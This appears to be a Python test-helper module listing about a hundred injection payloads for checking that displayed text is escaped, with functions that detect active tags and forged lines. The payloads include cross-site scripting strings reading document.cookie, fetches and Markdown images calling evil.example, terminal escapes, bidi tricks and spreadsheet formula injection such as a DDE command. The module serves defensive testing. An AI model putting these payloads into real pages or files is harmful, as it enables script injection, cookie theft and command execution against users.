"""Texts that act where they are shown carelessly, and how to tell that one did."""

from __future__ import annotations

import html
import re

FORGED = "ALL IS WELL"
PAYLOADS = (
    f"\x1b[2J\x1b[31mred{FORGED}",
    f"a\nfirst\r{FORGED}",
    "bell\x07\x08\x7f\x9b31m",
    "\u202egnp.exe\u2066\u200f",
    "zero\u200bwidth\ufeff\u2060\u00ad",
    "sep\u2028\u2029\u0085arated",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![x](http://evil.example/x.png) [click](http://evil.example)",
    "<http://evil.example> http://evil.example www.evil.example",
    "x | y | **bold** | `code` <!-- gone",
    '=HYPERLINK("http://evil.example","x")',
    "$\\frac{1}{$ and $x_",
    "\ud800lone",
)
"""Escapes, line ends, controls, direction, no width, separators, HTML, links, cells, formulas, maths, surrogates."""
_SCRIPTS = ("alert(1)", "fetch('//evil.example')", "document.cookie", "top.location='//evil.example'")
_AROUND = (
    "<script>{}</script>", "<SCRIPT SRC=//evil.example/{}></SCRIPT>", "<svg onload={}>", "<img src=x onerror={}>",
    "<body onpageshow={}>", "<a href=\"javascript:{}\">x</a>", "<iframe srcdoc='<script>{}</script>'>",
    "\"><script>{}</script>", "'><svg/onload={}>", "</title><script>{}</script>", "</text></svg><script>{}</script>",
    "</style><script>{}</script>", "<style>@import '//evil.example/{}'</style>", "<math><mi xlink:href=\"data:,{}\">",
    "<details open ontoggle={}>", "&lt;script&gt;{}&lt;/script&gt;", "{{{{ {} }}}}", "{{% print {} %}}",
)  # fmt: skip
HUNDRED = tuple(
    dict.fromkeys(
        (
            *PAYLOADS[:-1],
            *(around.format(script) for around in _AROUND for script in _SCRIPTS),
            "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)", "\t=1+1", "=IMPORTXML(\"http://evil.example\",\"//a\")",
            "# heading", "> quote", "- item", "[x](javascript:alert(1))", "![x](data:text/html,x)", "***", "`a` ``b``",
            "<!-- gone -->", "</p><p>", "a\x00b", "\x1b]0;title\x07", "\u202edlrow", "<\u200bscript>", "%3Cscript%3E",
        )
    )
)[:100]  # fmt: skip
"""A hundred: in markup, in attributes, out of tags, templates, formulas, Markdown, escapes and hidden characters."""
YAML_PAYLOADS = tuple(text for text in PAYLOADS if text.isprintable() or "\u202e" in text or "\u200b" in text)
"""Those that a YAML file can hold as they are, in a comment."""

_TAG = re.compile(r"<[a-z/!][^>]*>")
_HARMLESS = re.compile(r"</?(p|h[123]|ul|li|code|strong|em|br|hr|blockquote|ol|pre|table|thead|tbody|tr|td|th)( /)?>")


def acts(page: str) -> list[str]:
    """Return the tags of a rendered page that do anything: links, images, scripts, comments, attributes."""
    return [tag for tag in _TAG.findall(page) if not _HARMLESS.fullmatch(tag)]


def lines_of(page: str) -> list[str]:
    """Return the text of a rendered page, line by line."""
    return html.unescape(_TAG.sub("", page)).strip().splitlines() or [""]


def safe(text: str, wrapped: bool = False) -> bool:
    """Tell whether what was printed moves no cursor and, unless it was wrapped, has no line that a payload made."""
    lines = text.split("\n")
    forged = not wrapped and any(line.strip().startswith(FORGED) for line in lines)
    return all(line.isprintable() for line in lines) and not forged
